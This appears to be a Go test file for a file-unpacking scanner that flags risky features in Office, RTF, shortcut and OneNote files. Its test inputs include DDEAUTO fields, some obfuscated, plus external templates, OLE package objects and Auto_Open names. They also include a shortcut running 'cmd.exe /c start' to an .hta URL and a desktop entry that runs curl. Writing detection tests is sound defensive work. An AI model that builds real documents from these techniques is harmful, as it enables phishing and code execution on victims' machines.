package unpack

import (
	"bytes"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"strings"
	"testing"
	"unicode/utf16"
)

func opener(typ Type) func(*Budget, Sink) Reader {
	return func(b *Budget, s Sink) Reader { return Open(typ, "", b, s) }
}

func wide(s string) string {
	var b []byte
	for _, c := range utf16.Encode([]rune(s)) {
		b = binary.LittleEndian.AppendUint16(b, c)
	}
	return string(b)
}

func TestPart(t *testing.T) {
	const rels = `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">%s</Relationships>`
	const doc = `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">%s</w:document>`
	const office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
	tests := []struct{ name, form, body, rules, links string }{
		{"inside", rels, `<Relationship Id="r1" Type="` + office + `image" Target="media/a.png"/>`, "", ""},
		{"link", rels, `<Relationship Type="` + office + `hyperlink" Target="http://example.com/?a&amp;b" TargetMode="External"/>`, "", "http://example.com/?a&b"},
		{"template", rels, `<Relationship TargetMode = 'External' Target='http://example.com/t' Type='` + office + `attachedTemplate'/>`,
			"office.external:template", "http://example.com/t"},
		{"prefixed", rels, `<x:Relationship TargetMode="Ex&#116;ernal" Target="&#x68;ttp://example.com/>" Type="` + office + `oleObject"/>`,
			"office.external:object", "http://example.com/>"},
		{"picture", rels, `<Relationship TargetMode="External" Target="http://example.com/p" Type="` + office + `image"/>`, "office.external:image", "http://example.com/p"},
		{"comment", rels, `<!-- <Relationship TargetMode="External" Target="x"/> -->`, "", ""},
		{"field", doc, `<w:instrText> DDEAUTO c:\\x </w:instrText>`, "office.dde", ""},
		{"field in runs", doc, `<w:fldChar w:fldCharType="begin"/><w:instrText> D</w:instrText></w:r><w:r><w:instrText>D&#69; x</w:instrText><w:fldChar w:fldCharType="end"/>`, "office.dde", ""},
		{"field in data", doc, `<w:instrText><![CDATA[DDE x]]></w:instrText>`, "office.dde", ""},
		{"quoted field", doc, `<w:instrText>QUOTE 68 68 69 65</w:instrText>`, "office.dde", ""},
		{"simple field", doc, `<w:fldSimple w:instr="&quot;DDE&quot; x"/>`, "office.dde", ""},
		{"two fields", doc, `<w:fldChar w:fldCharType="begin"/><w:instrText>PAGE</w:instrText><w:fldChar w:fldCharType="end"/><w:t>DDE</w:t>`, "", ""},
		{"hyperlink field", doc, `<w:instrText>HYPERLINK "http://example.com/h" \t "x"</w:instrText>`, "", "http://example.com/h"},
		{"package", doc, `<o:OLEObject Type="Embed" ProgID="Package"/>`, "office.object:package", ""},
		{"equation", doc, `<o:OLEObject Type="Embed" ProgID="Equation.3"/>`, "office.object:equation", ""},
		{"control", doc, `<w:control r:id="x"/>`, "office.object:activex", ""},
		{"sheet", doc, `<xm:macrosheet>`, "office.macro:excel4", ""},
		{"auto", doc, `<definedName name="_xlnm.Auto_Open">x</definedName>`, "office.autorun:excel4", ""},
		{"spreadsheet DDE", doc, `<ddeLink ddeService="cmd" ddeTopic="x"/>`, "office.dde", ""},
		{"cut", doc, `<Relationship Target="`, "", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			data := fmt.Sprintf(tt.form, tt.body)
			for _, form := range []string{data, "\xFF\xFE" + wide(data)} {
				if types := Detect([]byte(form)); len(types) == 0 || types[0] != TypeRels && types[0] != TypePart {
					t.Fatalf("detected as %v", types)
				}
				s := tellAll(t, opener(TypePart), []byte(form), 0)
				if got := strings.Join(s.rules(), " "); got != tt.rules {
					t.Errorf("rules %q, want %q", got, tt.rules)
				}
				if got := strings.Join(s.links, " "); got != tt.links {
					t.Errorf("links %q, want %q", got, tt.links)
				}
				sameCuts(t, opener(TypePart), []byte(form))
			}
		})
	}
}

func TestFlatDocument(t *testing.T) {
	bin := base64.StdEncoding.EncodeToString(makeCFB(vbaFiles("", "Sub x()\r\nEnd Sub\r\n")...))
	bin = bin[:76] + "\r\n" + bin[76:]
	data := `<?xml version="1.0"?><?mso-application progid="Word.Document"?><pkg:package>` +
		`<pkg:part pkg:name="/word/vbaProject.bin"><pkg:binaryData>` + bin + `</pkg:binaryData></pkg:part>` +
		`<w:binData w:name="wordml://1.png">SGVsbG8=</w:binData></pkg:package>`
	if types := Detect([]byte(data)); types[0] != TypeWord {
		t.Errorf("detected as %v", types)
	}
	s := tellAll(t, opener(TypeWord), []byte(data), 0)
	if m := s.find("word/vbaProject.bin"); m == nil || !bytes.HasPrefix(m.data, []byte(ole2Magic)) {
		t.Errorf("%.500v", s)
	}
	if m := s.find("wordml://1.png"); m == nil || string(m.data) != "Hello" {
		t.Errorf("%.500v", s)
	}
	sameCuts(t, opener(TypeWord), []byte(data))
}

// ole1Object writes an OLE 1 object of a class.
func ole1Object(class string, data []byte) []byte {
	b := []byte{1, 5, 0, 0, 2, 0, 0, 0}
	b = binary.LittleEndian.AppendUint32(b, uint32(len(class)+1))
	b = append(append(b, class...), 0)
	b = append(b, 0, 0, 0, 0, 0, 0, 0, 0)
	b = binary.LittleEndian.AppendUint32(b, uint32(len(data)))
	return append(b, data...)
}

func TestRTF(t *testing.T) {
	obj := func(class string, data []byte) string { return fmt.Sprintf("%x", ole1Object(class, data)) }
	pack := nativePackage("a.exe", "c:/a.exe", []byte("MZ payload"))[4:]
	tests := []struct{ name, body, rules, links, content string }{
		{"plain", `some \b text`, "", "", ""},
		{"object", `{\object\objemb{\*\objclass Word}{\*\objdata ` + obj("Word.Document.8", []byte("the data")) + `}}`, "office.object", "", "the data"},
		{"object split", `{\object{\*\objdata ` + obj("Word.Document.8", []byte("the data"))[:20] + "\r\n\t" + obj("Word.Document.8", []byte("the data"))[20:] + `}}`, "office.object", "", "the data"},
		{"object in bin", `{\object{\*\objdata \bin` + fmt.Sprint(len(ole1Object("x", []byte("}bin{")))) + " " + string(ole1Object("x", []byte("}bin{"))) + `}}`, "office.object", "", "}bin{"},
		{"control words inside", `{\object{\*\objdata ` + obj("x", []byte("the data"))[:9] + `\foo1\'ab ` + obj("x", []byte("the data"))[9:] + `}}`, "office.object", "", "the data"},
		{"package", `{\object{\*\objdata ` + obj("Package", pack) + `}}`, "office.object office.object:package", "", "MZ payload"},
		{"equation", `{\object{\*\objdata ` + obj("eQuatiOn.3", []byte("eq")) + `}}`, "office.object office.object:equation", "", "eq"},
		{"no header", `{\object{\*\objdata 0102` + fmt.Sprintf("%x", ole2Magic) + `}}`, "office.object", "", ole2Magic},
		{"unclosed", `{\object{\*\objdata ` + obj("x", []byte("the data")), "office.object", "", "the data"},
		{"DDE", `{\field{\*\fldinst DDEAUTO c:\\\\x }}`, "office.dde", "", ""},
		{"DDE by number", `{\field{\*\fldinst \u68?\u68?{\uc0\u69}  x}}`, "office.dde", "", ""},
		{"hyperlink", `{\field{\*\fldinst{ HYPERLINK "http://example.com/x" }}}`, "", "http://example.com/x", ""},
		{"template", `{\*\template http://example.com/t.dot}`, "office.external:template", "http://example.com/t.dot", ""},
		{"link", `{\object\objautlink\objupdate}`, "office.object:link", "", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			data := []byte(`{\rtf1\ansi ` + tt.body + `}`)
			s := tellAll(t, opener(TypeRTF), data, 0)
			if got := strings.Join(s.rules(), " "); got != tt.rules {
				t.Errorf("rules %q, want %q", got, tt.rules)
			}
			if got := strings.Join(s.links, " "); got != tt.links {
				t.Errorf("links %q, want %q", got, tt.links)
			}
			got := ""
			if len(s.members) > 0 {
				got = string(s.members[0].data)
			}
			if tt.name == "unclosed" {
				got = strings.TrimSuffix(got, "}")
			}
			if got != tt.content {
				t.Errorf("content %q, want %q", got, tt.content)
			}
			sameCuts(t, opener(TypeRTF), data)
		})
	}
	hurt(t, opener(TypeRTF), []byte(`{\rtf1`+tests[2].body+tests[4].body+tests[5].body+tests[10].body+`}`))
}

func FuzzRTF(f *testing.F) {
	f.Add([]byte(`{\rtf1{\object{\*\objdata ` + fmt.Sprintf("%x", ole1Object("Package", nativePackage("a", "b", []byte("c"))[4:])) + `}}}`))
	f.Add([]byte(`{\rtf1{\field{\*\fldinst DDEAUTO \u68?\bin3 abc}}}`))
	f.Fuzz(func(t *testing.T, data []byte) {
		if s := tellAll(t, opener(TypeRTF), data, 0); s.has(RuleBroken + ":panic") {
			t.Fatal("panic")
		}
	})
}

// makeLNK writes a shell link with a target and arguments.
func makeLNK(target, args string) []byte {
	b := make([]byte, lnkHeader)
	copy(b, "\x4C\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xC0\x00\x00\x00\x00\x00\x00\x46")
	binary.LittleEndian.PutUint32(b[0x14:], lnkIDList|lnkInfo|lnkArgs|lnkUnicode)
	item := "\x1F\x50 item.exe\x00"
	b = binary.LittleEndian.AppendUint16(b, uint16(len(item)+4))
	b = binary.LittleEndian.AppendUint16(b, uint16(len(item)+2))
	b = append(append(b, item...), 0, 0)
	info := make([]byte, 28)
	binary.LittleEndian.PutUint32(info, uint32(28+len(target)+1))
	binary.LittleEndian.PutUint32(info[4:], 28)
	binary.LittleEndian.PutUint32(info[16:], 28)
	b = append(append(append(b, info...), target...), 0)
	b = binary.LittleEndian.AppendUint16(b, uint16(len(args)))
	b = append(b, wide(args)...)
	return append(b, 0, 0, 0, 0)
}

func TestShortcut(t *testing.T) {
	data := makeLNK(`C:\Windows\System32\cmd.exe`, `/c start http://example.com/a.hta`)
	s := tellAll(t, opener(TypeLNK), data, 0)
	want := " item.exe\nC:\\Windows\\System32\\cmd.exe\n/c start http://example.com/a.hta\n"
	if m := s.find("command.txt"); m == nil || !m.Text || !strings.HasSuffix(string(m.data), want) {
		t.Errorf("%v", s)
	}
	if len(s.links) != 1 || s.links[0] != "http://example.com/a.hta" || s.has(RuleOverlay) {
		t.Errorf("links %q, rules %v", s.links, s.rules())
	}
	sameCuts(t, opener(TypeLNK), data)
	hurt(t, opener(TypeLNK), data)
	s = tellAll(t, opener(TypeLNK), append(data, "MZ payload"...), 0)
	if !s.has(RuleOverlay) || string(s.members[1].data) != "MZ payload" {
		t.Errorf("overlay: %v", s)
	}

	for _, text := range []string{
		"[InternetShortcut]\r\nURL=http://example.com/u\r\nIconIndex=0\r\n",
		"\xFF\xFE" + wide("[InternetShortcut]\r\nURL = http://example.com/u\r\n"),
		"[Desktop Entry]\nType=Link\nURL[$e]=http://example.com/u\n",
	} {
		if types := Detect([]byte(text)); len(types) == 0 || types[0] != TypeURL {
			t.Errorf("detected as %v", types)
		}
		if s := tellAll(t, opener(TypeURL), []byte(text), 0); len(s.links) != 1 || s.links[0] != "http://example.com/u" {
			t.Errorf("%q: links %q", text, s.links)
		}
	}
	s = tellAll(t, opener(TypeURL), []byte("[Desktop Entry]\nExec=sh -c 'curl http://example.com/e'\n"), 0)
	if !s.has(RuleShortcut+":command") || len(s.links) != 1 {
		t.Errorf("%v", s)
	}
}

func FuzzLNK(f *testing.F) {
	f.Add(makeLNK("a", "b://c"))
	f.Fuzz(func(t *testing.T, data []byte) {
		if s := tellAll(t, opener(TypeLNK), data, 0); s.has(RuleBroken + ":panic") {
			t.Fatal("panic")
		}
	})
}

func TestOneNote(t *testing.T) {
	object := func(data string) string {
		b := binary.LittleEndian.AppendUint64([]byte(oneNoteFile), uint64(len(data)))
		return string(append(b, make([]byte, 12)...)) + data
	}
	data := []byte("\xE4\x52\x5C\x7B\x8C\xD8\xA7\x4D\xAE\xB1\x53\x78\xD0\x29\x96\xD3" + strings.Repeat("x", 2000) +
		"\x01\x00" + wide("click me.hta") + "\x00\x00" + object("<hta>") + strings.Repeat("y", 99) + object("MZ second"))
	s := tellAll(t, opener(TypeOneNote), data, 0)
	if len(s.members) != 2 || string(s.members[0].data) != "<hta>" || string(s.members[1].data) != "MZ second" {
		t.Fatalf("%v", s)
	}
	if !strings.HasSuffix(s.members[0].Names[0], "click me.hta") {
		t.Errorf("names %q", s.members[0].Names)
	}
	sameCuts(t, opener(TypeOneNote), data)
	hurt(t, opener(TypeOneNote), data)
}
